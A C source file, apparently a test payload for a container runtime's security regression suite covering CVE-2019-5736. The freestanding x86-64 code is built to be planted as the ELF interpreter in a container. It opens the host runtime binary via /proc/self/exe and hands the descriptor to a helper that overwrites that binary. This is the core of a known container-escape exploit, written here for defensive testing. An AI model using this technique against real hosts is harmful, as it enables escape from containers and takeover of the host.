/*
 * berth-attack-interp — a payload for the CVE-2019-5736 regression test
 * (tests/integration/test_security_audit.py): placed in a container's rootfs
 * as /lib64/ld-linux-x86-64.so.2, it is the ELF interpreter the kernel
 * loads when the container manages to execute the (dynamically linked)
 * runtime binary, e.g. through a script starting `#!/proc/self/exe`.  It
 * then runs with /proc/self/exe = the host's runtime binary: it opens that
 * with O_PATH and execs /bin/berth-attack write-fd N, which reopens it for
 * writing once no longer mapped.  Without that path being reachable, it is
 * never run.
 *
 * Freestanding (no libc: it is loaded as an interpreter, where libc's start
 * code would find the runtime's program headers, not its own); x86-64 only.
 * Never does anything but the above.
 */
typedef long i64;

static i64 sys3(i64 n, i64 a, i64 b, i64 c)
{
        i64 r;
        __asm__ volatile("syscall"
                         : "=a"(r)
                         : "a"(n), "D"(a), "S"(b), "d"(c)
                         : "rcx", "r11", "memory");
        return r;
}

#define SYS_write  1
#define SYS_open   2
#define SYS_execve 59
#define SYS_exit   60
#define O_PATH_    010000000

static const char msg[] = "berth-attack-interp: the runtime binary ran inside the container\n";

void attack_main(i64 *sp);
void attack_main(i64 *sp)
{
        (void)sp;
        sys3(SYS_write, 2, (i64)msg, sizeof(msg) - 1);
        i64 fd = sys3(SYS_open, (i64) "/proc/self/exe", O_PATH_, 0);
        if (fd >= 0) {
                char num[4] = {(char)('0' + fd / 10), (char)('0' + fd % 10), 0, 0};
                if (fd < 10) {
                        num[0] = (char)('0' + fd);
                        num[1] = 0;
                }
                char *argv[] = {"berth-attack", "write-fd", num, 0};
                char *envp[] = {0};
                sys3(SYS_execve, (i64) "/bin/berth-attack", (i64)argv, (i64)envp);
        }
        sys3(SYS_exit, 97, 0, 0);
}

__asm__(".text\n.global _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall "
        "attack_main\n\thlt\n");
